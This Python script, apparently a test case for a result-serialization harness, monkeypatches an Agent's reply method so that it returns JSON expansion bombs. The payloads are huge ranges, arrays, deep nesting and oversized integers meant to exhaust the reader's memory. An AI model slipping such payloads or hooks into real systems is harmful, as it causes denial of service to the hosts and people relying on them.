# Forges results that are small on the way and grow in the hands of whoever reads them.
# points: 0

# %% first
import gc
import itertools

agent = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Agent")
turn = itertools.count()


def packed(tree):
    text = tree.encode()
    return len(text).to_bytes(4, "big") + text


BOMBS = [
    '{"d":[["result",{"range":[0,1000000000000000000,1]}]]}',
    '{"d":[["result",{"a":0,"dtype":"<f8","shape":[1073741824,0]}]]}',
    '{"d":[["result",{"s":[' + ",".join('{"i":"%x"}' % (number * (2**61 - 1)) for number in range(1, 100000)) + "]}]]}",
    '{"d":[["result",' + '{"l":[' * 5000 + "]}" * 5000 + "]]}",
    '{"d":[["result",{"l":[' + '{"t":[]},' * 400000 + "1]}]]}",
    '{"d":[["result",{"i":"' + "f" * 3999 + '"}]]}',
    '{"d":[["result",{"l":[' + '{"a":0,"dtype":"<U0","shape":[9999]},' * 50000 + "1]}]]}",
]
genuine = type(agent)._reply
type(agent)._reply = lambda self, message: packed(BOMBS[next(turn) % len(BOMBS)]) if b'"call"' in bytes(message) else genuine(self, message)

# %% scale
def scale(x, factor=2.0):
    return x
